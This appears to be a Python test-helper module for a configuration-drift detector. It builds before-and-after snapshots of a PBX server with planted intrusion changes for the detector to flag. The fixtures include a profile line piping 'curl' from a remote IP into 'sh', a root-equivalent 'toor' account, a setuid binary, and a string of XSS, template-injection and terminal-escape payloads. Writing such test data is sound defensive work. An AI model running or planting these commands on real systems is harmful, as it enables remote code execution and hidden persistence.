"""What the tests of drift's views share: a system between two looks, compared and judged by the real rules."""

from __future__ import annotations

import datetime as dt
import hashlib
from collections.abc import Iterable, Mapping
from dataclasses import replace
from typing import Any

from callout.drift.change import Change, finding_id
from callout.drift.compare import Compared, in_order
from callout.drift.look import Fact, Hashed, Look, Section, SectionState, Whole
from callout.drift.package_words import PackageEvidence
from callout.drift.report import DriftReport, report_of
from callout.drift.verdict import judge
from callout.drift.waiver import Waiver
from tests.unit.drift.judging_desk import (
    BASELINE_AT,
    CATALOGUE,
    LOOKED_AT,
    NOW,
    PW,
    added,
    changed,
    evidence,
    fact,
    patched,
    removed,
)

SYSTEM = "acme-pbx1"
PROFILE_BEFORE = "# /etc/profile\numask 022\nPATH=/usr/bin:/bin\nexport PATH\n" + "".join(
    f"# line {number}\n" for number in range(1, 30)
)
PROFILE_AFTER = PROFILE_BEFORE.replace("PATH=/usr/bin:/bin", "PATH=/usr/local/hack:/usr/bin:/bin") + (
    "\tcurl http://198.51.100.9/x | sh\nDB_PASSWORD=hunter2\n"
)
# Whatever may stand in a name or a text of a system: escapes, markup, a template, line ends, half a character.
HOSTILE = "/etc/<script>alert(1)</script>{{7*7}}\x1b[2J\n\u202eevil \udcff|`*_[x](http://e.example)"
PERSON = {"uid": "0", "gid": "0", "home": "/root", "shell": "/bin/bash", "password": "sha256:1", "gecos": ""}
TRIGGER = {"definer": "root@localhost", "statement": "BEGIN\n  SET NEW.uniqueid = UUID();\nEND", "timing": "BEFORE"}


def sha(text: str) -> str:
    """The hash of a text, as a look has it."""
    return hashlib.sha256(text.encode()).hexdigest()


def look(identifier: str, at: dt.datetime, **more: Any) -> Look:
    """A whole look, without files: those are given as changes."""
    told: dict[str, Any] = {
        "id": identifier,
        "system": SYSTEM,
        "taken_at": at,
        "clock_s": int(at.timestamp()),
        "product_version": "8.1 (a35a9165)",
        "scope_hash": "s1",
        "hashed": Hashed.CHANGED,
        "sections": {section: SectionState(Whole.WHOLE) for section in Section},
        "facts": (Fact(Section.KERNEL, "release", {"value": "6.1.0"}),),
        "logins": ("root pts/0 203.0.113.7 Fri Nov 20 11:58",),
        "files_count": 119_000,
    }
    return Look(**{**told, **more})


def planted() -> list[Change]:
    """What somebody did: a profile edited, a program put there, a user with root's rights, a trigger, a grant."""
    return [
        changed("/etc/profile", {"sha256": sha(PROFILE_BEFORE)}, sha256=sha(PROFILE_AFTER), size=700),
        added("/usr/local/bin/tidy", mode=0o4755),
        removed("/etc/pam.d/sshd"),
        fact(Section.USERS, "toor", None, PERSON),
        fact(Section.TRIGGERS, "cdr.hide", None, TRIGGER),
        fact(Section.KERNEL, "sysctl net.ipv4.ip_forward", {"value": "0"}, {"value": "1"}),
    ]


def legitimate() -> list[Change]:
    """What our patch and the product did."""
    return [
        changed(f"{PW}/opt/pbxware-gui/index.php"),
        changed(f"{PW}/var/log/asterisk/messages"),
    ]


def doubtful() -> list[Change]:
    """What nobody can tell the maker of: a file on nobody's ground."""
    return [added("/srv/notes/todo.txt"), added("/srv/notes/plan.txt")]


def report(
    changes: Iterable[Change] | None = None,
    *,
    unknown: tuple[tuple[Section, str], ...] = (),
    waivers: tuple[Waiver, ...] = (),
    after: Mapping[str, Any] | None = None,
    customer: str = "acme",
    before: Mapping[str, str] | None = None,
    now: Mapping[str, str] | None = None,
    most: int = 10_000,
    **told: Any,
) -> DriftReport:
    """The report on `changes` (all of the above where none are given), judged with everything asked.

    `before` and `now` are texts of the two looks by path, `after` what else is different in the later look.
    """
    found = in_order([*planted(), *legitimate(), *doubtful()] if changes is None else changes)
    before_look = look("K-20261113", BASELINE_AT, texts={"/etc/profile": PROFILE_BEFORE, **(before or {})})
    after_look = look("K-20261123", LOOKED_AT, texts={"/etc/profile": PROFILE_AFTER, **(now or {})}, **(after or {}))
    known = evidence(
        packages=PackageEvidence(whole=True),
        patched={f"{PW}/opt/pbxware-gui/index.php": patched()},
        logins=after_look.logins,
        waivers=waivers,
        not_whole=dict(unknown),
        **told,
    )
    judged = judge(found, known, CATALOGUE, now=NOW)
    return report_of(before_look, after_look, Compared(found, unknown), judged, customer=customer, most=most)


def waiver(change: Change, **more: Any) -> Waiver:
    """A waiver of one change, for a month."""
    given = Waiver(
        "T-4711", "Needed until the new trunk is there", "eva@desk", NOW - dt.timedelta(days=2),
        NOW + dt.timedelta(days=30), finding_id(SYSTEM, change), id="E-12",
    )  # fmt: skip
    return replace(given, **more)


def full() -> DriftReport:
    """All kinds at once: unsupported, unknown, waived, explained, a section that did not come, a disagreement."""
    return report(
        unknown=((Section.FIREWALL, "In the look: nft said nothing for 10 s."),),
        waivers=(waiver(planted()[5]),),
        after={"disagreements": ("find lists 3 files of /etc, the shell 4.",), "unread_count": 2},
    )
